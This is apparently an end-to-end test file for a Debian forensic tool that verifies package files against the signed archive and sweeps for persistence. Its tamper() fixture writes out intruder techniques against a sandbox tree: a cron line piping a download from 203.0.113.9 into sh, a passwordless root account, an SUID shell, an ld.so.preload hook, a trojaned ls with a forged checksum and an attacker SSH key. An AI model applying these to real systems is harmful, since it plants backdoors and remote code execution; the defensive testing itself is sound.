// SPDX-License-Identifier: GPL-3.0-or-later
// "debsums from the CD", end to end: a real bookworm tree (mmdebstrap, cached), a trusted
// reference built by the builder's own code from the signed archive for exactly the tree's
// packages, then the tree tampered with as an intruder would. responder verify and sweep must
// report each change with the right kind, and nothing on the untouched tree; debsums --root,
// which trusts the evidence's md5sums, misses the trojaned /bin/ls whose md5sums line was rewritten.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, copyFileSync, mkdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { CACHE_DIR, TEST_OUT } from '../helpers/e2e.js';
import { MIRROR, TREE_SUITE, unpackTree, type CachedTree } from '../helpers/debian-tree.js';
import { serverTreeWithReference } from '../helpers/server-tree.js';
import { expectOneLineError, runResponder } from '../helpers/responder-run.js';

const WORK = path.join(TEST_OUT, 'verify');

interface Finding {
  kind?: string;
  indicator?: string;
  severity: string;
  path?: string;
  package?: string;
  detail: string;
}

async function verify(root: string, extra: string[] = []) {
  const r = await runResponder(['verify', root, '--reference', REF, '--json', ...extra]);
  if (r.code !== 0 && r.code !== 1) throw new Error(`verify exit ${r.code}: ${r.stderr}`);
  return { code: r.code, report: JSON.parse(r.stdout.toString()) as { findings: Finding[]; packages: Record<string, number>; untrustedDebs: string[] } };
}

async function sweep(root: string, extra: string[] = ['--reference', REF]) {
  const r = await runResponder(['sweep', root, '--json', ...extra]);
  if (r.code !== 0 && r.code !== 1) throw new Error(`sweep exit ${r.code}: ${r.stderr}`);
  return { code: r.code, report: JSON.parse(r.stdout.toString()) as { findings: Finding[] } };
}

const REF = path.join(WORK, 'reference');
const PRISTINE = path.join(WORK, 'pristine');
const TAMPERED = path.join(WORK, 'tampered');
let tree: CachedTree;

const md5 = (file: string) => createHash('md5').update(readFileSync(file)).digest('hex');

/** The intruder's changes, each one a case from the issue. */
function tamper(root: string): void {
  const at = (p: string) => path.join(root, p);
  // A trojaned ls (here: another coreutils binary), with its md5sums line rewritten to match.
  copyFileSync(at('usr/bin/dir'), at('usr/bin/ls'));
  const sums = at('var/lib/dpkg/info/coreutils.md5sums');
  writeFileSync(sums, readFileSync(sums, 'utf8').replace(/^[0-9a-f]{32}  bin\/ls$/m, `${md5(at('usr/bin/ls'))}  bin/ls`));
  unlinkSync(at('usr/bin/tac')); // a packaged file deleted
  appendFileSync(at('etc/ssh/ssh_config'), '    ProxyCommand /tmp/.x %h %p\n'); // a conffile changed
  copyFileSync(at('usr/bin/dash'), at('usr/bin/kworkerd')); // an unowned executable
  mkdirSync(at('usr/lib/modules/6.1.0-99-amd64/extra'), { recursive: true });
  writeFileSync(at('usr/lib/modules/6.1.0-99-amd64/extra/rootkit.ko'), Buffer.from('\x7fELF fake module'));
  copyFileSync(at('usr/lib/x86_64-linux-gnu/libz.so.1'), at('usr/lib/x86_64-linux-gnu/libsecure.so'));
  writeFileSync(at('etc/ld.so.preload'), '/usr/lib/x86_64-linux-gnu/libsecure.so\n');
  writeFileSync(at('etc/cron.d/sysupdate'), '* * * * * root /tmp/.sh -c "curl -s http://203.0.113.9/x | sh"\n');
  appendFileSync(at('etc/passwd'), 'toor:x:0:0:toor:/root:/bin/bash\n');
  appendFileSync(at('etc/shadow'), 'toor::19800:0:99999:7:::\n');
  copyFileSync(at('usr/bin/bash'), at('tmp/.sh'));
  chmodSync(at('tmp/.sh'), 0o4755);
  mkdirSync(at('root/.ssh'), { recursive: true, mode: 0o700 });
  writeFileSync(at('root/.ssh/authorized_keys'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEjBaF7k2cbLVbIhaFAc1RM3EfHb9nGb3YGHn1VbZCbq intruder@203.0.113.9\n');
}

beforeAll(async () => {
  mkdirSync(WORK, { recursive: true });
  tree = await serverTreeWithReference(REF);
  unpackTree(tree.tarball, PRISTINE);
  unpackTree(tree.tarball, TAMPERED);
  tamper(TAMPERED);
});

describe('responder verify', () => {
  it('reports nothing on the untampered tree (every package verified, nothing unowned)', async () => {
    const { code, report } = await verify(PRISTINE);
    expect(report.findings).toEqual([]);
    expect(report.packages.unverifiable).toBe(0);
    expect(report.packages.verified).toBe(tree.packages.length);
    expect(code).toBe(0);
  });

  it('reports each tampering with the right kind', async () => {
    const { code, report } = await verify(TAMPERED);
    const has = (kind: string, p: string) => report.findings.some((f) => f.kind === kind && (f.path === p || f.path?.endsWith(p)));
    expect(has('MODIFIED', '/bin/ls')).toBe(true);
    expect(has('TAMPERED-DB', '/bin/ls')).toBe(true);
    expect(has('MISSING', '/usr/bin/tac')).toBe(true);
    expect(has('MODIFIED-CONFFILE', '/etc/ssh/ssh_config')).toBe(true);
    for (const p of ['/usr/bin/kworkerd', '/usr/lib/modules/6.1.0-99-amd64/extra/rootkit.ko', '/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libsecure.so', '/etc/cron.d/sysupdate']) {
      expect(has('UNOWNED', p), p).toBe(true);
    }
    // Nothing else: the list is exactly the changes made.
    expect(report.findings.length).toBe(9);
    expect(code).toBe(1);
  });

  it('side by side: debsums --root trusts the rewritten md5sums and passes /bin/ls; verify does not', async () => {
    let out = '';
    try {
      out = execFileSync('debsums', [`--root=${TAMPERED}`, 'coreutils'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    } catch (err) {
      out = (err as { stdout: string }).stdout; // exit 2: it does notice the deleted tac
    }
    expect(out).toMatch(/\/bin\/ls\s+OK$/m);
    const { report } = await verify(TAMPERED);
    const ls = report.findings
      .filter((f) => f.path === '/bin/ls')
      .map((f) => f.kind)
      .sort();
    expect(ls).toEqual(['MODIFIED', 'TAMPERED-DB']);
  });

  it('a version without a trusted reference is UNVERIFIABLE; a .deb vouched for by the signed index fixes it, others are ignored', async () => {
    // A reference without sudo: rewrite the database without its records.
    const noSudo = path.join(WORK, 'reference-no-sudo');
    rmSync(noSudo, { recursive: true, force: true });
    mkdirSync(noSudo);
    const lines = execFileSync('zcat', [path.join(REF, 'reference.db.gz')], { encoding: 'utf8', maxBuffer: 1 << 30 }).split('\n');
    let skip = false;
    const kept = lines.filter((l) => {
      if (l.startsWith('P\t')) skip = l.startsWith('P\tsudo\t');
      return !skip;
    });
    writeFileSync(path.join(noSudo, 'reference.db'), kept.join('\n'));
    execFileSync('gzip', ['-9', path.join(noSudo, 'reference.db')]);
    for (const f of ['packages.idx.gz', 'manifest.json']) copyFileSync(path.join(REF, f), path.join(noSudo, f));
    const r1 = await runResponder(['verify', PRISTINE, '--reference', noSudo, '--json']);
    const rep1 = JSON.parse(r1.stdout.toString()) as { findings: Finding[] };
    expect(r1.code).toBe(1);
    expect(rep1.findings.some((f) => f.kind === 'UNVERIFIABLE' && f.package?.startsWith('sudo '))).toBe(true);
    // Its files are then unowned, and say which package claims them.
    expect(rep1.findings.some((f) => f.kind === 'UNOWNED' && f.path === '/usr/bin/sudo' && /sudo/.test(f.detail))).toBe(true);

    const sudo = tree.packages.find((p) => p.name === 'sudo')!;
    const debs = path.join(WORK, 'debs');
    rmSync(debs, { recursive: true, force: true });
    mkdirSync(debs);
    const sha = execFileSync('zcat', [path.join(REF, 'reference.db.gz')], { encoding: 'utf8', maxBuffer: 1 << 30 })
      .split('\n')
      .find((l) => l.startsWith(`P\tsudo\t${sudo.version}\t`))!
      .split('\t')[5]!;
    copyFileSync(path.join(CACHE_DIR, 'reference-debs', `${sha}.deb`), path.join(debs, 'sudo.deb'));
    writeFileSync(path.join(debs, 'forged.deb'), Buffer.concat([readFileSync(path.join(debs, 'sudo.deb')), Buffer.from('x')]));
    const r2 = await runResponder(['verify', PRISTINE, '--reference', noSudo, '--debs', debs, '--json']);
    const rep2 = JSON.parse(r2.stdout.toString()) as { findings: Finding[]; untrustedDebs: string[]; packages: { fromDebs: number } };
    expect(rep2.findings).toEqual([]);
    expect(rep2.packages.fromDebs).toBe(1);
    expect(rep2.untrustedDebs).toEqual(['forged.deb']);
    expect(r2.code).toBe(0);
  });

  it('errors are one line with exit 2: no reference, not a Debian root', async () => {
    const r1 = await runResponder(['verify', PRISTINE, '--reference', path.join(WORK, 'nope')]);
    expect(r1.code).toBe(2);
    const r2 = await runResponder(['verify', WORK, '--reference', REF]);
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(/var\/lib\/dpkg\/status: not found/);
  });
});

describe('responder sweep', () => {
  it('reports nothing on the untampered tree when a trusted reference is given', async () => {
    const { code, report } = await sweep(PRISTINE);
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
  });

  it('reports each persistence indicator with its severity and path', async () => {
    const { code, report } = await sweep(TAMPERED);
    const has = (indicator: string, severity: string, p: string) => report.findings.some((f) => f.indicator === indicator && f.severity === severity && f.path === p);
    expect(has('preload', 'critical', '/etc/ld.so.preload')).toBe(true);
    expect(has('cron', 'medium', '/etc/cron.d/sysupdate')).toBe(true);
    expect(has('account', 'critical', '/etc/passwd')).toBe(true);
    expect(has('account', 'high', '/etc/shadow')).toBe(true);
    expect(has('suid', 'critical', '/tmp/.sh')).toBe(true);
    expect(has('tmp-executable', 'high', '/tmp/.sh')).toBe(true);
    expect(has('authorized-keys', 'high', '/root/.ssh/authorized_keys')).toBe(true);
    expect(has('kernel-module', 'high', '/usr/lib/modules/6.1.0-99-amd64/extra/rootkit.ko')).toBe(true);
    // The trojaned ls is verify's business; the unchanged SUID sudo is shipped as is: not reported.
    expect(report.findings.some((f) => f.path === '/usr/bin/sudo')).toBe(false);
    expect(code).toBe(1);
  });

  it('without a reference, shipped SUID programs are listed too', async () => {
    const { report } = await sweep(PRISTINE, ['--no-reference']);
    expect(report.findings.some((f) => f.indicator === 'suid' && f.path === '/usr/bin/sudo')).toBe(true);
  });
});

describe('responder verify --mirror (online, the real deb.debian.org)', () => {
  const CACHE = path.join(WORK, 'mirror-cache');
  const online = (root: string, extra: string[] = []) => runResponder(['verify', root, '--mirror', MIRROR, '--cache', CACHE, '--json', ...extra]);

  it('with no local reference, verifies every package from the signed archive and catches the tampering', async () => {
    const r = await online(TAMPERED);
    expect(r.code, r.stderr).toBe(1);
    const rep = JSON.parse(r.stdout.toString()) as { findings: Finding[]; packages: Record<string, number>; mirror: { suites: { suite: string; signedBy: string[] }[] } };
    expect(rep.packages.unverifiable).toBe(0);
    expect(rep.packages.fromMirror).toBe(tree.packages.length);
    expect(rep.mirror.suites.map((s) => s.suite)).toEqual([TREE_SUITE, `${TREE_SUITE}-updates`, `${TREE_SUITE}-security`]);
    expect(rep.mirror.suites.every((s) => s.signedBy.length > 0)).toBe(true);
    // The same findings as with the image's reference.
    const kinds = rep.findings.map((f) => `${f.kind} ${f.path}`).sort();
    const { report } = await verify(TAMPERED);
    expect(kinds).toEqual(report.findings.map((f) => `${f.kind} ${f.path}`).sort());
    expect(kinds).toContain('TAMPERED-DB /bin/ls');
    expect(kinds).toContain('MODIFIED /bin/ls');
  });

  it('the untampered tree is clean (downloads come from the cache now)', async () => {
    const r = await online(PRISTINE);
    const rep = JSON.parse(r.stdout.toString()) as { findings: Finding[]; mirror: { debsDownloaded: number } };
    expect(rep.findings).toEqual([]);
    expect(rep.mirror.debsDownloaded).toBe(0);
    expect(r.code).toBe(0);
  });

  it('refuses an InRelease that the keyring cannot vouch for: one line naming the URL, exit 2', async () => {
    // Debian's removed keys: a real keyring, but none of its keys signs bookworm.
    const r = await online(PRISTINE, ['--keyring', '/usr/share/keyrings/debian-archive-removed-keys.gpg', '--cache', path.join(WORK, 'mirror-cache-badkey')]);
    expect(r.code).toBe(2);
    expectOneLineError(r);
    expect(r.stderr).toContain(`${MIRROR}/dists/${TREE_SUITE}/InRelease: bad or missing signature, refused`);
    expect(r.stdout.toString()).toBe('');
  });

  it('never writes its cache inside the evidence', async () => {
    const r = await online(PRISTINE, ['--cache', path.join(PRISTINE, 'var/tmp/cache')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/inside the evidence/);
  });
});
